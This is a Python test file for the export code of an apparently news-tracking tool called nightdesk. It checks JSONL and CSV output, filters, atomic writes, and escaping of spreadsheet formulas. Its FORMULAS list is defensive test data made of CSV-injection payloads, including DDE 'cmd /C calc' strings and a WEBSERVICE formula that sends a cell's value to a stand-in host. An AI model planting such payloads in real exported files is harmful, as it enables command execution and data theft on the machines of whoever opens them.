"""Exports: whole or not at all, lists as lists, and no cell that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from core.errors import NightdeskError, UsageError
from nightdesk import output
from nightdesk.export import SUBJECTS, export
from nightdesk.listing import Filters
from nightdesk.output import Format
from store.base import UtcDateTime
from store.developments import development_countries, developments
from store.engine import Store
from tests.conftest import FakeClock

FORMULAS = [
    *(
        "=1+1",
        "+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "  =1",
        "\u3000=1",
        "\u200b=1",
    ),
    *('=HYPERLINK("http://x.example")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=@X"),
    *(
        '=WEBSERVICE("http://x.example/?"&A1)',
        '=IMPORTXML("http://x.example","//a")',
        '=IMAGE("http://x.example/a.png")',
    ),
    *('=DDE("cmd";"/C calc";"x")', "@SUM(1+1)*cmd|' /C calc'!A0", '=1+1+cmd|"/C notepad"!"A1"', "{=SUM(A1:A2)}"[1:]),
    *("\ufeff=1+1", "\u00a0@A1", "\r\n=1+1", "\t@SUM(A1)", "=\u202e1+1", "+66 2 123 4567", "-", "=A1\n=A2"),
]


@pytest.fixture
def filled(store: Store, clock: FakeClock) -> Store:
    with store.write() as db:
        for number, (title, country) in enumerate((("Raid in the port", "KH"), ("=1+1 freed", "MM")), start=1):
            columns = {column.name: _default(column, clock) for column in developments.c if not column.nullable}
            db.execute(
                developments.insert().values(
                    **columns | {"id": number, "title": title, "countries": [country], "topics": ["scam_centres"]}
                )
            )
            db.execute(development_countries.insert().values(development_id=number, country=country))
    return store


def _default(column: Any, clock: FakeClock) -> Any:
    if isinstance(column.type, UtcDateTime):
        return clock()
    kinds: dict[type, Any] = {int: 1, bool: False, str: "x"}
    return kinds.get(column.type.python_type, [])


def test_jsonl_has_real_lists_oldest_first(filled: Store, tmp_path: Path) -> None:
    target = tmp_path / "developments.jsonl"
    assert export(filled, "developments", str(target), Filters()) == 2
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    assert [(row["id"], row["countries"], row["topics"]) for row in rows] == [
        (1, ["KH"], ["scam_centres"]),
        (2, ["MM"], ["scam_centres"]),
    ]


def test_csv_is_quoted_and_safe(filled: Store, tmp_path: Path) -> None:
    target = tmp_path / "developments.csv"
    export(filled, "developments", str(target), Filters())
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline="")))
    assert [(row["title"], row["countries"]) for row in rows] == [("Raid in the port", "KH"), ("'=1+1 freed", "MM")]


def test_filters_leave_out_what_does_not_pass(filled: Store, tmp_path: Path) -> None:
    target = tmp_path / "d.jsonl"
    assert export(filled, "developments", str(target), Filters(country="mm", topic="scam_centres")) == 1
    assert export(filled, "developments", str(target), Filters(topic="overseas_policing")) == 0


@pytest.mark.parametrize("subject", SUBJECTS)
def test_every_subject_takes_every_filter_it_can(store: Store, tmp_path: Path, subject: str, clock: FakeClock) -> None:
    filters = Filters(since=clock(), until=clock())
    if subject != "deliveries":
        filters = Filters("scam_centres", "raid", "TH", "post", "zh", clock(), clock(), 5)
    assert export(store, subject, str(tmp_path / "x.csv"), filters) == 0


def test_an_unknown_ending_is_refused(store: Store, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"\.jsonl, \.csv, \.xlsx or \.parquet"):
        export(store, "articles", str(tmp_path / "articles.doc"), Filters())
    assert list(tmp_path.glob("*articles*")) == []


def test_a_folder_that_is_not_there_is_said(store: Store, tmp_path: Path) -> None:
    with pytest.raises(NightdeskError, match="cannot write"):
        export(store, "articles", str(tmp_path / "nowhere" / "a.csv"), Filters())


def test_a_broken_export_leaves_the_old_file(filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "developments.jsonl"
    target.write_text("old\n")

    def broken(_rows: Any, _out: Any) -> int:
        raise RuntimeError("power cut")

    monkeypatch.setattr(output, "write_jsonl", broken)
    with pytest.raises(RuntimeError):
        export(filled, "developments", str(target), Filters())
    assert target.read_text() == "old\n"
    assert [path.name for path in tmp_path.glob(".developments*")] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert output.cell(text) == f"'{text}"


def test_numbers_stay_numbers() -> None:
    assert [output.cell(value) for value in (-5, 2.5, None, True, "a-b", ["=x", "y"])] == [
        *(-5, 2.5, "", "true", "a-b"),
        "'=x; y",
    ]


def rows() -> Iterator[dict[str, Any]]:
    yield {"id": 7, "title": "\x1b[31mred", "countries": '["TH", "MM"]', "value": 1200.0}


def test_a_table_shows_ids_with_their_letter_and_no_control_characters() -> None:
    out = io.StringIO()
    output.write(rows(), ["id", "title", "countries", "value"], Format.TABLE, out, noun="development")
    assert "d7" in out.getvalue() and "TH, MM" in out.getvalue() and "1,200" in out.getvalue()
    assert "\x1b" not in out.getvalue()


def test_json_gives_plain_ids_and_numbers() -> None:
    out = io.StringIO()
    output.write(rows(), ["id", "title", "countries", "value"], Format.JSON, out, noun="development")
    assert json.loads(out.getvalue()) == [{"id": 7, "title": "\x1b[31mred", "countries": ["TH", "MM"], "value": 1200}]
